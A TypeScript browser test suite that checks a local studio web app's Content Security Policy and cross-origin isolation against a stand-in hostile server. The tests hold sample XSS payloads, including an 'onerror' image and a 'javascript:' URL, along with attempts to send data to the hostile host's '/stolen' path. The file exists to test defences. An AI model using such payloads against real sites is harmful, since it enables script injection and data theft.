/** What the page may not do, and what other pages may not do with it, asked of a real browser with a hostile server beside it. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chromiumPath, NO_CHROMIUM, type Studio } from './browser.ts';
import { BrowserShell } from './shell.ts';

if (chromiumPath === undefined) it.skip(`the page's security in a browser: ${NO_CHROMIUM}`, () => {});

/** Runs code in the page as a script of ours would, and gives what it throws as text. Later, since a debugger may evaluate text. */
const attempt = (page: Page, code: string) =>
  page.evaluate<string>(
    `(async () => { await new Promise((resolve) => setTimeout(resolve)); try { return String(await (async () => { ${code} })()); } catch (error) { return 'threw ' + error.name; } })()`,
  );

describe.skipIf(chromiumPath === undefined)('security of the page in Chromium', () => {
  const folder = mkdtempSync(join(tmpdir(), 'r0-security-'));
  /** Requests that the hostile server has got, by path. */
  const hits: string[] = [];
  let evil: Server;
  let evilUrl = '';
  let shell: BrowserShell;
  let studio: Studio;

  beforeAll(async () => {
    writeFileSync(join(folder, 'a.md'), '# A\n');
    evil = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
      response.end('<!doctype html><title>evil</title>');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    // Another port of the same host: for cookies it is the same site.
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    shell = await BrowserShell.open({ folder });
    studio = shell.studio;
    await studio.page.evaluate(`window.violations = [];
      document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));`);
  });

  afterAll(async () => {
    await shell?.close();
    evil?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  beforeEach(() => {
    hits.length = 0;
  });

  /** The rules of the policy that the page has broken since the last call. */
  const violations = () => studio.page.evaluate<string[]>('window.violations.splice(0)');

  it('has nothing of Node', async () => {
    const names = ['require', 'process', 'module', 'Buffer', '__dirname', 'setImmediate', 'ring0'];
    const types = await studio.page.evaluate<string[]>(
      `${JSON.stringify(names)}.map((name) => typeof globalThis[name])`,
    );
    expect(types).toEqual(names.map(() => 'undefined'));
  });

  it.each([
    ['eval', 'return eval("1")'],
    ['a function of text', 'return new Function("return 1")()'],
  ])('does not run text: %s', async (_name, code) => {
    expect(await attempt(studio.page, code)).toBe('threw EvalError');
    expect(await violations()).toEqual(['script-src']);
  });

  it.each([
    [
      'an inline script',
      `const it = document.createElement('script'); it.text = 'window.hacked = 1'; document.body.append(it);`,
    ],
    [
      'a handler in an attribute',
      `const it = document.createElement('b'); it.setAttribute('onclick', 'window.hacked = 1'); document.body.append(it); it.click(); it.remove();`,
    ],
    [
      'a javascript: address',
      `const it = document.createElement('a'); it.href = 'javascript:window.hacked=1'; document.body.append(it); it.click(); it.remove();`,
    ],
    [
      'markup with a handler',
      `const it = document.createElement('div'); it.innerHTML = '<img src=x onerror="window.hacked = 1">'; document.body.append(it);`,
    ],
    [
      'a script from a data: address',
      `const it = document.createElement('script'); it.src = 'data:text/javascript,window.hacked=1'; document.body.append(it);`,
    ],
    ['a worker from a blob', `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`],
  ])('refuses and reports %s', async (_name, code) => {
    await attempt(studio.page, code);
    await expect.poll(async () => (await violations()).length).toBeGreaterThan(0);
    expect(await studio.page.evaluate('window.hacked')).toBeUndefined();
  });

  it.each([
    ['a request', 'connect-src', (url: string) => `await fetch('${url}')`],
    ['a beacon', 'connect-src', (url: string) => `navigator.sendBeacon('${url}', 'x')`],
    ['a WebSocket', 'connect-src', (url: string) => `new WebSocket('${url.replace('http', 'ws')}')`],
    ['an image', 'img-src', (url: string) => `new Image().src = '${url}'`],
    [
      'a script',
      'script-src-elem',
      (url: string) => `const it = document.createElement('script'); it.src = '${url}'; document.body.append(it)`,
    ],
    [
      'a style sheet',
      'style-src-elem',
      (url: string) =>
        `const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = '${url}'; document.head.append(it)`,
    ],
    [
      'a frame',
      'frame-src',
      (url: string) => `const it = document.createElement('iframe'); it.src = '${url}'; document.body.append(it)`,
    ],
    [
      'a plug-in',
      'object-src',
      (url: string) => `const it = document.createElement('object'); it.data = '${url}'; document.body.append(it)`,
    ],
    [
      'a form',
      'form-action',
      (url: string) =>
        `const it = document.createElement('form'); it.action = '${url}'; document.body.append(it); it.submit()`,
    ],
    [
      'another base address',
      'base-uri',
      (url: string) => `const it = document.createElement('base'); it.href = '${url}'; document.head.append(it)`,
    ],
  ])('sends nothing elsewhere: %s', async (_name, directive, code) => {
    await attempt(studio.page, code(`${evilUrl}/stolen`));
    await expect.poll(violations).toContain(directive);
    expect(hits).toEqual([]);
    expect(studio.page.url()).not.toContain(evilUrl);
  });

  describe('another page of this browser, on the same host and with the cookie', () => {
    let page: Page;
    const own = () => new URL(shell.url);

    beforeAll(async () => {
      page = await studio.page.context().newPage();
      await page.goto(evilUrl);
    });
    afterAll(() => page.close());

    it('cannot read files, with the key or without', async () => {
      for (const query of ['', own().search])
        expect(
          await attempt(page, `return (await fetch('${own().origin}/${query}', { credentials: 'include' })).status`),
        ).toBe('threw TypeError');
    });

    it('cannot load them as a script or an image', async () => {
      const load = (make: string) =>
        attempt(
          page,
          `return new Promise((resolve) => { ${make} it.onload = () => resolve('loaded'); it.onerror = () => resolve('refused'); document.body.append(it); })`,
        );
      expect(await load(`const it = new Image(); it.src = '${own().origin}/ring0.svg${own().search}';`)).toBe(
        'refused',
      );
      const script = await studio.page.evaluate<string>(`document.querySelector('script[src]').src`);
      expect(await load(`const it = document.createElement('script'); it.type = 'module'; it.src = '${script}';`)).toBe(
        'refused',
      );
    });

    it('cannot open the contract', async () => {
      const socket = `ws://${own().host}/rpc${own().search}`;
      expect(
        await attempt(
          page,
          `return new Promise((resolve) => { const it = new WebSocket('${socket}'); it.onopen = () => resolve('open'); it.onerror = () => resolve('refused'); })`,
        ),
      ).toBe('refused');
    });

    it('cannot put the studio into a frame', async () => {
      await attempt(
        page,
        `const it = document.createElement('iframe'); it.src = '${shell.url}'; document.body.append(it); await new Promise((resolve) => { it.onload = resolve; it.onerror = resolve; })`,
      );
      const [, frame] = page.frames();
      expect(
        await frame
          ?.locator('#root')
          .count()
          .catch(() => 0),
      ).toBe(0);
    });

    it('may lead to the studio, and has no hold on the window that it opened', async () => {
      const opened = page.context().waitForEvent('page');
      await page.evaluate(`window.opened = window.open('${shell.url}', '_blank')`);
      const window = await opened;
      await window.getByRole('tree', { name: 'Files' }).waitFor();
      expect(await window.evaluate('String(window.opener)')).toBe('null');
      expect(await attempt(page, 'return window.opened.closed')).toBe('true');
      await window.close();
    });
  });

  it('a wrong key opens nothing', async () => {
    const context = await studio.page.context().browser()?.newContext();
    const page = await context?.newPage();
    const answer = await page?.goto(shell.url.replace(/token=.*/, 'token=00000000000000000000'));
    expect(answer?.status()).toBe(401);
    expect(await page?.locator('#root').count()).toBe(0);
    await context?.close();
  });
});
